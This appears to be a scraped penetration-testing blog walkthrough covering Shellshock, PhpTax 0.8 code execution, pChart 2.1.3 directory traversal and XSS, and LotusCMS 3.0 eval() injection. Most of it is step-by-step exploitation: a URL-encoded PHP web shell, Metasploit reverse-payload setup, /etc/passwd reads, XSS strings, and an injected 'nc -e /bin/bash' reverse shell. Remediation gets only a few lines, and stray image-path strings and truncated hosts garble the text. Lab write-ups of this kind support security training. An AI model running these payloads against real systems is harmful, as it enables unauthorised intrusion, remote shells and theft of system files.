9. Now, check the listener and see if that executed successfully, it did• whoami


Upgrade to a newer version


Vulnerability Shellshock – CVE-2014-6271

Shellshock is effectively a Remote Command Execution vulnerability inBASH. The vulnerability relies in the fact that BASH incorrectly executes trailing commands when it imports a function definition stored into an environment variable.

A lot of programs likeSSH, telnet, CGI scripts allow bash to run in the background allowing the vulnerability to be exploited remotely over the network which makes it more scary. Shellshock can be exploited in

  • RCE via Apache with mod_cgi, CGI Scripts, Python, Perl
  • RCE on DHCP clients using Hostile DHCP Server
  • OpenSSH RCE/Privilege escalation

This vulnerability is exploitable via multiple vectors (DHCP, HTTP, SIP, FTP, and SMTP) and could allow an attacker to inject and execute arbitrary commands on a vulnerable system.

Affected versions

CVE-2014-7169 - GNU Bash through 4.3 bash43-025

CVE-2014-6271, CVE-2014-6277, CVE-2014-6278, CVE-2014-7186, CVE-2014-7187 - GNU Bash through 4.3 bash43-026

Affected systems

The vulnerability affects versions 1.14 through 4.3 of GNU Bash.

  • GNU Bash 3.0
  • GNU Bash 3.1
  • GNU Bash 3.2
  • GNU Bash 4.0
  • GNU Bash 4.1
  • GNU Bash 4.2
  • GNU Bash 4.3


Bash supports environmentvariables. They contain information about your login session, stored for the system shell to use when executing commands.

  • env

Print, and add new variables

  • echo $PATH
  • export VK9=”Keep going”
  • echo $VK9

Bash Functions

1. Bash functions are blocks of code that can be used in .sh scripts to execute an instruction. These can be used as one line piece of code, interpreted by bash

  • name() { echo $Path; date; }
  • name

2. These functions can also be set as environment variables

  • export runthis="() { echo \"Hey $USER, yourare in a good track\"; date; }"
  • bash -c runthis

Test vulnerability

1. Check bash version

  • bash --version

2. A simple test to check if your Bash is vulnerable. (local test)

  • env var='() { ignore this;}; echo vulnerable' bash -c /bin/true
  • env x='() { :;}; echo shellshocked' bash -c "echo test"

The waythis proof of concept works is that bash functions can be exported to environment variables. When code is added to the end of the function definition inside the variable, it gets executed when the shell is invoked ("bash -c").


Remediation is obviously going to be most successful by applying patches to affected systems. Check with relevant vendors for updated information. This is also an opportunity to review systems for unused services, like FTP, Telnet, and DCHPd, and disable them when they are not required.


PhpTax 0.8 – File Manipulation

PhpTax is free software to do your U.S. income taxes. Tested under Unix environment. The program generates .pdfs that can be printed and sent to the IRS.


An attacker might write to arbitrary files or inject arbitrary code into a file with this vulnerability. User tainted data is used when creating the file name that will be opened or when creating the string that will be written to the file. An attacker can try to write arbitrary PHP code in a PHP file allowing to fully compromise the server.Field variable exploitation




#LINE 32: fwrite fwrite($zz, "$_GET['newvalue']");

#LINE 31: $zz = fopen("./data/$field", "w");

#LINE 2: $field = $_GET['field'];


1. Access this page and modify the values as will

  • http://{$url}/index.php?field=rce.php&newvalue=%3C%3Fphp%20passthru(%24_GET%5Bcmd%5D)%3B%3F%3E
  •<?php passthru($_GET[cmd]); ?>
  •<?php system($_GET[cmd]); ?>
  •<?php shell_exec($_GET[cmd]); ?>

2. Access the data directory to find the script


3. Locate and execute the script4. Knowing that we can execute system commands, we could also run a reverse shell

  • -e /bin/bash 4444

pfilez variable exploitation



drawimage.php, line 63:

include ("./files/$_GET[pfilez]");

// makes a png image



Header("Content-type: image/png");

if ($_GET[pdf] == "") Imagepng($image);

if ($_GET[pdf] == "make") Imagepng($image,"./data/pdf/$pfilef");

if ($_GET[pdf] == "make") exec("convert ./data/pdf/$pfilef ./data/pdf/$pfilep");


1. Access phptax home folder


2. Open any existing report, as you can see the report has a pfilez variable filled3. Now we can inject the code to execute a reverse connection. (in this case I get the connection but immediately closes, so this is for demonstration only, may have to troubleshoot, but I’m lazy!!, we just need the proof of concept)

4. I even ran TCPDump to capture traffic

  • tcpdump -i wlan0 | grep

Note: We can also exploitdrawimage.php, instead of index.phpUsing Metasploit

1. Start Metasploit service and search for “phptax”

  • service postgresql start
  • msfdb init
  • msfconsole
  • search phptax

2. select the module anddisplay the options

  • use exploit/multi/http/phptax_exec
  • show options

3. show and set the payload

  • show payloads
  • set payload cmd/unix/reverse
  • show options

4. Fill the options marked as “Required yes”

  • set RHOSTS
  • set RPORT 8080 # in this case the app is using that port
  • set LHOST

5. (EXTRA) In this particular scenario, we need to spoof the user agent to mozilla4, as per the site configuration, this is not usually required.

  • set UserAgent Mozilla/4.0
  • show advanced

6. Now run the exploit

  • exploitNote: I had to run it twice. The first time the session expired.


Do some input validation.

Exploiting pChart 2.1.3 (Directory traversal & XSS)

PHP library pChart 2.1.3 (and possibly previous versions) by default contains anexamples folder, where the application is vulnerable to Directory Traversal and Cross-Site Scripting (XSS).

This has been taken from (https://www.exploit-db.com/exploits/31173)

Exploiting Directory Traversal

1. Visiting the application at (, we get to the examples folder.

2. This tool can be exploited by entering the following data

  • http://localhost/examples/index.php?Action=View&Script=%2f..%2f..%2fetc/passwd

3. Now we can start looking for config files, since this server is using Apache, so, I will read that. (Note: BSD apache config is located in /usr/local/etc/apache22/httpd.conf)


Note: This config file show the user agent permitted, “Mozilla4_browser”, and a virtual host on port 8080.

Directory Traversal remediation:

1) Update to the latest version of the software.

2) Remove public access to the examples folder where applicable.3) Use a Web Application Firewall or similar technology to filter

malicious input attempts.

Exploiting XSS

This file uses multiple variables throughout the session, and most of them are vulnerable to XSS attacks. Certain parameters are persistent throughout thesession and therefore persists until the user session is active.The parameters are unfiltered.

1. From a browsernavigate to


2. In there, just enter the following

  • session.php?<script>alert('Vry4n has been here.')</script>
  •<script>alert('Vry4n has been here.')</script>

Cross-Site Scripting remediation:

1) Update to the latest version of the software.

2) Remove public access to the examples folder where applicable.

3) Use a Web Application Firewall or similar technology to filter malicious input attempts.


LotusCMS 3.0 – ‘eval()’ Remote Command Execution

Lotus CMS is a content management systembuilt using PHP as a programming language, created by a company called Vipana LLC. This CMS is no longer being developed or maintained by its team, so download the files to set up your own Lotus CMS demo might pose some security issues.

This time we will exploit a vulnerability found in Lotus CMS 3.0's Router() function. This is done by embedding PHP code in the 'page' parameter, which will be passed to a eval call, therefore allowing remote code execution.

LotusCMS could allow a remote attacker to execute arbitrary code on the system, caused by improper validation of user-supplied input by the index.php script prior to being used in an being used in an eval() call. A remote attacker could exploit this vulnerability using the req and page parameters to inject and execute arbitrary PHP code on the system.

Affected Products
LotusCMS LotusCMS 3.0.3
LotusCMS LotusCMS 3.0.5



1. I identified a login page where I could see a log in page that indicated it was hosted on LotusCMS, this can also be located at "/lcms/” example: "/lcms/somepath/index.php?system=Admin"2. I tested "/index.php?page=index", it didn’t show me an error, so, the entry is valid.

3. Based on Exploit-db (https://www.exploit-db.com/exploits/18565), the post shows the code that exploits the vulnerability.

  • ');#{stub}#

4. Now that we know the code, and we identified the vulnerable parameter.

  • ');#{stub}#
  • "/index.php?page=index"

We will send a request to ( and capture it with a proxy, I’ll be using BurpSuite

Note: Notice that this is a GET request, we need to change the request to POST method.

5. I send this to “Repeater” in Burp to modify the data• Right click -> Send to Repeater

6.Now right click on “Change Request Method”

7. Now that the method is set to POST we will inject the code in there

  • page=index');${print("vry4n has been here")};#

8. In the response we will see the code printed

9. Now we will try to read some system files using the “readfile” phpfunction

  • page=index');${readfile("/etc/passwd")};#

10. The result is the “passwd” output

11. Now instead of “readfile” function, we will use system, to execute “whoami”

  • page=index');${system("whoami")};#

12. Knowing that we can execute systemcommands, we will try to run a reverse shell. I would do netcat so first I will make sure netcat in present in the server.

  • page=index');${system("whereis nc")};#

13. Now I will start the listener on my Kali machine

  • nc -lvp 4444

14. Now I will craft the code for the reverse connection

  • page=index');${system("nc -e /bin/bash 4444")};#

15. We check our listener and we see the connection there

  • python -c 'import pty; pty.spawn("/bin/bash")'
  • whoami


Upgrade to the latest version of LotusCMS,available from the LotusCMS Web site.